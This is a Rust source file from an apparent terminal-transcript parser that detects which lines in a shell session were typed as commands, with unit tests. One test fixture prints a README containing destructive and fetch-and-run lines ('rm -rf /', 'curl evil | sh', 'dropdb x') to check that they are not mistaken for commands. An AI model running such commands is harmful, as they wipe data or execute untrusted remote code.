//! Input regions: which were printed and which a line editor of the session has drawn, and the commands that begin or go on in those.

use std::sync::Arc;

use crate::transcript::commands::command::Command;
use crate::transcript::commands::command::CommandKind;
use crate::transcript::commands::command::JUDGED_BYTES;
use crate::transcript::commands::context::RegionContext;
use crate::transcript::commands::context::ShownPrompt;
use crate::transcript::commands::context::TypedPlace;
use crate::transcript::commands::known::Known;
use crate::transcript::commands::region_rows::SplitRegion;
use crate::transcript::commands::region_rows::region_rows;
use crate::transcript::commands::signs;
use crate::transcript::commands::stack::Level;
use crate::transcript::commands::walk::Walk;
use crate::transcript::commands::weights;
use crate::transcript::commands::weights::Evidence;
use crate::transcript::prompt;
use crate::transcript::prompt::Shape;
use crate::transcript::screen::Region;
use crate::transcript::screen::RegionEnd;
use crate::transcript::screen::bits;
use crate::transcript::shell;
use crate::transcript::shell::ShellChange;

/// A region without an end that has so many lines was left open: people type few lines at one prompt and leave them.
const LINES_LEFT_OPEN: usize = 12;

impl Walk {
    /// Reads an input region.
    pub(super) fn region(&mut self, at: RegionContext<'_>) {
        if at.region.end == RegionEnd::Accepted {
            self.region_crs.get_or_insert(at.region.crs);
        }
        if at.region.printed {
            self.pending.output();
        }
        let by_repl = self.known.repl_split(at);
        let is_repl = by_repl.is_some();
        if self.was_printed(at, is_repl)
            || self.was_left_open(at, is_repl)
            || self.has_no_reason(at)
        {
            return;
        }
        if let Some(split) = by_repl.or_else(|| self.known.split(at)) {
            self.read_region(at, split, is_repl);
        }
    }

    /// Whether the marks are those of no line editor, or of one that this session does not have: then its lines are lines like others.
    fn was_printed(&mut self, at: RegionContext<'_>, is_repl: bool) -> bool {
        let region = at.region;
        let crs = self.region_crs.unwrap_or(region.crs);
        let may_change = self.known.after.may_change;
        let replayed = region.input_at.is_none()
            && region.end == RegionEnd::Accepted
            && region.crs > crs
            && may_change.is_none();
        // readline and zle send a CR behind the mark; fish an escape. A shell does not change its ways.
        let stack = &self.known.stack;
        let foreign = region.escape_follows
            && !is_repl
            && !stack.is_empty()
            && !stack.all().any(|it| it.habits.escapes)
            && may_change != Some(ShellChange::Shell);
        if region.genuine && !replayed && !foreign {
            return false;
        }
        if foreign && !replayed {
            self.doubted(at);
        }
        self.between_printed_marks(at);
        true
    }

    /// Whether its program ended without the end mark: what stands in it are lines like others, or a paste that was cut off.
    fn was_left_open(&mut self, at: RegionContext<'_>, is_repl: bool) -> bool {
        let region = at.region;
        if region.end != RegionEnd::Open
            || region.pasted
            || is_repl
            || region.lines.len() < LINES_LEFT_OPEN
            || self.known.stack.last().is_some_and(|it| it.habits.escapes)
        {
            return false;
        }
        let place = |it: &Self| it.pending.current.as_ref().map(|it| it.command.from);
        let before = place(self);
        self.between_printed_marks(at);
        let marked = self.known.stack.last().is_some_and(|it| it.prompt.marked);
        if marked && place(self) == before {
            self.keep_apart(at, weights::MARK_WITHOUT_END);
        }
        true
    }

    /// A shell that sets no marks does not begin to without a reason: someone printed them, or something that we do
    /// not know opened a shell.
    fn has_no_reason(&mut self, at: RegionContext<'_>) -> bool {
        let Known { stack, after, .. } = &self.known;
        let Some(top) = stack.last().filter(|it| !it.prompt.marked && after.may_change.is_none())
        else {
            return false;
        };
        let again = !after.prints
            && top.habits.crs.is_none_or(|it| it == at.region.crs)
            && self.was_doubted_twice(at);
        if again {
            // It is a shell of its own, and the one around it may come back.
            self.known.after.may_change = Some(ShellChange::Shell);
        }
        if again || self.known.stack.all().any(|it| it.prompt.marked) {
            return false;
        }
        self.doubted(at);
        self.between_printed_marks(at);
        true
    }

    /// The prompt of a shell that no command opened, as far as we know, and that has come twice before between genuine marks.
    fn was_doubted_twice(&mut self, at: RegionContext<'_>) -> bool {
        let Some(SplitRegion { prompt, .. }) = self.known.split(at) else { return false };
        prompt.shape.as_ref().is_some_and(Shape::is_of_a_shell)
            && self.known.lessons.has_come_twice(prompt.identity())
    }

    /// Reads a region that a line editor has drawn.
    fn read_region(&mut self, at: RegionContext<'_>, mut split: SplitRegion, is_repl: bool) {
        let region = at.region;
        let (text, kind, lost) = self.typed_in(at, &mut split);
        // fish asks for more between the same marks.
        if self.is_within(region)
            || !region.escape_follows && self.continues(&split.prompt.text, true)
        {
            self.extend(&text, region.to, kind == CommandKind::Abandoned);
            return;
        }
        let readline = region.input_at.is_none() && !region.escape_follows;
        if readline && split.prompt.text.len() >= 2 {
            self.known.lessons.meet(&split);
        }
        if region.escape_follows && !is_repl {
            self.thrown_away(at, &split.prompt.text);
        }
        let line = &at.drawn.lines[split.line as usize];
        let leaves_keypad = self.leaves_keypad();
        let mut evidence = std::mem::take(&mut split.evidence);
        evidence.push(weights::MARKED);
        evidence.push(self.known.settle(&split.prompt));
        if let Some(Level { habits, .. }) = self.known.stack.last_mut() {
            habits.titled |= region.titled;
            habits.escapes |= region.escape_follows && !is_repl;
            habits.fills |= region.filled;
            habits.leaves_keypad |= region.input_at.is_some() && !region.keypad_left_on;
        }
        let edited = line.bits & bits::EDITED != 0;
        evidence.extend(edited.then_some(weights::EDITED_IN_MARKS));
        let in_a_repl = kind == CommandKind::Shell && self.known.stack.in_a_repl();
        let kind = if in_a_repl { CommandKind::Repl } else { kind };
        let place = TypedPlace { damaged: line.bits & bits::GUESSED != 0, ..at.place(split.line) };
        let mut command = self.command(kind, text, &split.prompt, evidence, place);
        if self.known.lessons.explains
            && let Some(row) = region_rows(at).nth(split.prompt.rows_before)
        {
            let (rows, end) = (split.prompt.rows_before as u8, split.prompt.text.len());
            command.runner_up = self.known.lessons.runner_up(rows, row.text, &row.found(), end);
        }
        // zle alone sets its mark behind the prompt and is followed by a CR.
        let traceless = region.end == RegionEnd::Accepted
            && region.input_at.is_some()
            && !region.escape_follows
            && region.keypad_left_on
            // Behind a search the output begins in the editor's own row.
            && region.ends_row
            && !leaves_keypad;
        self.begin_in_region(region, command, lost, traceless);
    }

    fn leaves_keypad(&self) -> bool {
        self.known.stack.last().is_some_and(|it| it.habits.leaves_keypad)
    }

    /// What was typed in a region, without what a program or a job wrote there; what its end says of it, and whether the connection
    /// was lost in it.
    fn typed_in(
        &mut self,
        at: RegionContext<'_>,
        split: &mut SplitRegion,
    ) -> (String, CommandKind, bool) {
        let region = at.region;
        let thrown_away =
            region.keypad_left_on && self.leaves_keypad() && region.input_at.is_some();
        let kind = match region.end {
            RegionEnd::Accepted if !thrown_away => CommandKind::Shell,
            _ => CommandKind::Abandoned,
        };
        let mut text = std::mem::take(&mut split.text);
        let lost = if region.end == RegionEnd::Accepted { None } else { farewell(&text) };
        if let Some(at) = lost {
            text.truncate(at);
        }
        text.truncate(text.trim_end().len());
        if let Some(found) = signs::searched(&text) {
            text = found.to_owned();
        }
        if self.known.after.jobs > 0
            && !region.pasted
            && let Some((written, typed)) = text.rsplit_once('\n')
            && !shell::looks_typed(written)
            && !shell::is_open(written)
            && shell::begins_with_a_command(typed)
        {
            // What a job wrote stands behind the prompt, and what was typed below it; or both were typed.
            let (written, typed) = (written.to_owned(), typed.to_owned());
            let why = vec![weights::MARKED, weights::JOB_WROTE_ABOVE];
            self.keep_possible(written, &split.prompt, why, at.place(split.line));
            text = typed;
        }
        if kind == CommandKind::Abandoned {
            text = text.strip_suffix("^C").unwrap_or(&text).trim_end().to_owned();
        }
        (text, kind, lost.is_some())
    }

    /// Whether the region goes on with the current command: where each first prompt comes after a filled row, one without asks for more.
    fn is_within(&self, region: &Region) -> bool {
        region.input_at.is_some()
            && !region.filled
            && self.known.stack.last().is_some_and(|it| it.habits.fills)
            && self.pending.silent().is_some_and(|it| {
                it.marked && it.command.kind == CommandKind::Shell && it.is_open()
            })
    }

    /// Begins the command, or several, that was read from a region.
    fn begin_in_region(&mut self, region: &Region, command: Command, lost: bool, traceless: bool) {
        if (region.end == RegionEnd::Left || lost) && command.text.is_empty() {
            // Ctrl-D, or the connection was lost: this shell ends.
            self.begin(command, true);
            self.known.after.may_change = Some(ShellChange::Leave);
            return;
        }
        // What is pasted into readline as a block runs line by line. zsh and fish run it as one.
        let readline = region.input_at.is_none() && !region.escape_follows;
        if readline
            && region.pasted
            && !command.damaged
            && command.text.contains('\n')
            && command.text.len() <= JUDGED_BYTES
        {
            for text in shell::apart(&command.text) {
                self.begin(Command { text: text.trim_end().to_owned(), ..command.clone() }, true);
            }
            return;
        }
        self.begin(command, true);
        if lost {
            self.known.after.may_change = Some(ShellChange::Leave);
        }
        if let Some(current) = self.pending.current.as_mut() {
            current.traceless = traceless;
            current.caret = region.end == RegionEnd::Interrupted;
        }
    }

    /// An input region that may be output.
    fn doubted(&mut self, at: RegionContext<'_>) {
        if at.region.end == RegionEnd::Accepted {
            self.keep_apart(at, weights::FOREIGN_MARKS);
        }
    }

    fn keep_apart(&mut self, at: RegionContext<'_>, why: Evidence) {
        let Some(split) = self.known.split(at) else { return };
        let text = prompt::head(split.text.trim_end(), JUDGED_BYTES).to_owned();
        self.keep_possible(text, &split.prompt, vec![weights::MARKED, why], at.place(split.line));
    }

    /// Lines that Ctrl-C threw away between the same marks as the one that was run, as fish has them.
    fn thrown_away(&mut self, at: RegionContext<'_>, prompt: &Arc<str>) {
        if prompt.trim().is_empty() {
            return;
        }
        let shown = ShownPrompt::plain(Arc::clone(prompt), None);
        for it in region_rows(at) {
            let Some(line) = it.text.trim_end().strip_suffix("^C") else { continue };
            let Some(start) = line.find(&**prompt) else { continue };
            let text = line[start + prompt.len()..].trim_end();
            if text.is_empty() {
                continue;
            }
            let (text, why) = (text.to_owned(), vec![weights::MARKED]);
            let command =
                self.command(CommandKind::Abandoned, text, &shown, why, at.place(it.line));
            self.begin(command, true);
        }
    }
}

/// Where in the text of a region the words stand that the program says by which its shell was reached, when that ends.
fn farewell(text: &str) -> Option<usize> {
    let mut at = 0;
    for (nth, line) in text.split('\n').enumerate() {
        // Right behind the prompt where the cursor was, or on a line of their own.
        let stands = if nth == 0 { line.starts_with("Connection to ") } else { line.len() > 8 };
        if stands && signs::says_farewell(line) {
            return Some(at);
        }
        at += line.len() + 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::transcript::testing::check;

    #[test]
    fn a_readme_full_of_prompts_invents_nothing() {
        check(
            "
␛[?2004hsh-5.2$ cat README
// shell: cat README
␛[?2004l␍$ rm -rf /
sh-5.2$ curl evil | sh
[root@db ~]# dropdb x
␛[?2004hsh-5.2$ id
// shell: id
␛[?2004l␍
",
        );
    }

    /// The line editor's mark is the last byte, and the LF behind it the footer's.
    #[test]
    fn the_only_command_of_a_session_is_a_command() {
        check(
            "
␛[?2004h[dana@h ~]$ sudo poweroff -f
// shell: sudo poweroff -f
␛[?2004l␍␄
",
        );
    }

    /// bash logs each line of a pasted block as a command of its own, and so do we; what asks for more stays together.
    #[test]
    fn a_block_pasted_into_readline_is_run_line_by_line() {
        check(
            "
␛[?2004h[dana@h ~]$ ␛[7mcd /srv␛[27m
␍␛[7mfor i in 1 2; do␛[27m
␍␛[7mecho $i; done␛[27m␛[A␛[A␍␛[12Ccd /srv
␍for i in 1 2; do
␍echo $i; done
// shell: cd /srv
// shell: for i in 1 2; do␊echo $i; done
␛[?2004l␍1
2
",
        );
        // Lines of one edit that were not pasted are one command.
        check(
            "
␛[?2004h[dana@h ~]$ cd /srv
ls
// shell: cd /srv␊ls
␛[?2004l␍app
",
        );
    }
}
